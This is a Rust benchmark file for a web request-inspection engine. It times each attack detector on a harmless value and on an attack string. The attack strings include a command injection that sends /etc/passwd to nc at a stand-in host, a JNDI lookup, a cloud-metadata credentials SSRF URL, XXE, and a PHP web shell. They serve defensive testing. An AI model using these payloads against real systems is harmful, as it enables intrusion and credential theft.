//! Criterion benches: each detector family on its own, over a legitimate value and an
//! attack it must catch, and the whole engine over the issue's typical GET and POST.
//!
//! ```text
//! cargo bench -p portcullis-inspect --bench detectors [-- FILTER]
//! ```
//!
//! Wall-clock figures on a shared machine move by ±20% run to run; for decisions count
//! instructions instead (`examples/engine_bench.rs --count`, under callgrind).

// `criterion_group!` defines a public function that cannot carry a doc comment.
#![allow(missing_docs)]

use std::hint::black_box;

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use portcullis_inspect::{bench, Engine, Request, Settings};

#[path = "../examples/support/typical.rs"]
mod typical;

/// Per family: a legitimate value of the kind the family sees every day, and an attack.
const CASES: [(&str, &str, &str); 14] = [
    (
        "sqli",
        "Please select the green ones if possible - the grey didn't match last time.",
        "1' UNION SELECT username, password FROM users--",
    ),
    (
        "xss",
        "Loved the last order <3 Could you drop-down the delivery window to the morning?",
        "<img src=x onerror=alert(document.cookie)>",
    ),
    (
        "cmdi",
        "Ring twice; if nobody answers, leave it with the neighbour (the one with the red door).",
        "127.0.0.1; cat /etc/passwd | nc evil.example 4444",
    ),
    (
        "traversal",
        "docs/guides/getting-started.md",
        "../../../../etc/passwd",
    ),
    (
        "ssrf",
        "https://track.parcels.example.com/t/IE1234567890?lang=en",
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    ),
    (
        "jndi",
        "Price: ${price} per month, billed yearly",
        "${jndi:ldap://evil.example/a}",
    ),
    (
        "ssti",
        "Use {name} and {date} as placeholders in the subject line",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    ),
    (
        "nosqli",
        "Total: $25.00 (incl. $5 shipping)",
        r#"{"username": {"$ne": null}, "password": {"$ne": null}}"#,
    ),
    ("ldapi", "Garden chair (set of 2)", "*)(uid=*))(|(uid=*"),
    (
        "deserialization",
        "Siobhan O'Brien, 14 St. Stephen's Green, Dublin",
        r#"O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}"#,
    ),
    (
        "prototype-pollution",
        "The constructor of the garden shed was Aoife",
        "__proto__[isAdmin]=true",
    ),
    (
        "crlf",
        "first line\nsecond line",
        "foo\r\nSet-Cookie: session=attacker",
    ),
    (
        "code-injection",
        "Gift: leave the receipt out & wrap it if you can :)",
        "<?php system($_GET['cmd']); ?>",
    ),
    (
        "xxe",
        "<note>Leave it at the door</note>",
        r#"<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>"#,
    ),
];

fn detectors(c: &mut Criterion) {
    for (family, legit, attack) in CASES {
        let mut group = c.benchmark_group(family);
        for (kind, value) in [("legit", legit), ("attack", attack)] {
            group.throughput(Throughput::Bytes(value.len() as u64));
            group.bench_function(kind, |b| {
                b.iter(|| bench::run_family(black_box(family), black_box(value)))
            });
        }
        group.finish();
    }
}

fn engine(c: &mut Criterion) {
    let engine = Engine::new(Settings::default());
    let get_headers = typical::get_headers();
    let get = Request {
        method: "GET",
        path: typical::GET_PATH,
        query: Some(typical::GET_QUERY),
        headers: &get_headers,
        body: b"",
    };
    let body = typical::post_body();
    let post_headers = typical::post_headers();
    let post = Request {
        method: "POST",
        path: typical::POST_PATH,
        query: None,
        headers: &post_headers,
        body: body.as_bytes(),
    };
    let mut group = c.benchmark_group("engine");
    group.bench_function("get", |b| b.iter(|| engine.inspect(black_box(&get))));
    group.bench_function("post", |b| b.iter(|| engine.inspect(black_box(&post))));
    group.finish();
}

criterion_group!(benches, detectors, engine);
criterion_main!(benches);
